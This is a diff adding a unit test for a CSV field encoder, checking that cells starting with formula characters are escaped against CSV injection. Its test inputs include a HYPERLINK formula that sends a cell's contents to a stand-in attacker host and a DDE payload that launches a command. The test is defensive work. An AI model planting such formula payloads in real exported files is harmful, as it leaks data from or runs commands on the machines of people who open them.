@@ -24,6 +24,20 @@ describe('CSV', () => {
     expect(csvField(1952)).toBe('1952');
   });
 
+  it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection)', () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"');
+    expect(csvField('+1+cmd|\' /C calc\'!A0')).toBe('"\'+1+cmd|\' /C calc\'!A0"');
+    expect(csvField('-2+3')).toBe('"\'-2+3"');
+    expect(csvField('@SUM(A1:A2)')).toBe('"\'@SUM(A1:A2)"');
+    expect(csvField('\t=1')).toBe('"\'\t=1"');
+    expect(csvField('\r=1')).toBe('"\'\r=1"');
+    // Only at the start: a formula character later in the text is ordinary text.
+    expect(csvField('Art. 2 = definitions')).toBe('Art. 2 = definitions');
+    expect(csvField('a-b')).toBe('a-b');
+    // Numbers stay numbers, negative ones too.
+    expect(csvField(-5)).toBe('-5');
+  });
+
   it('ends every record with CRLF', () => {
     expect(toCsv([{ header: 'a', value: (r: string) => r }], ['x', 'y'])).toBe('a\r\nx\r\ny\r\n');
   });
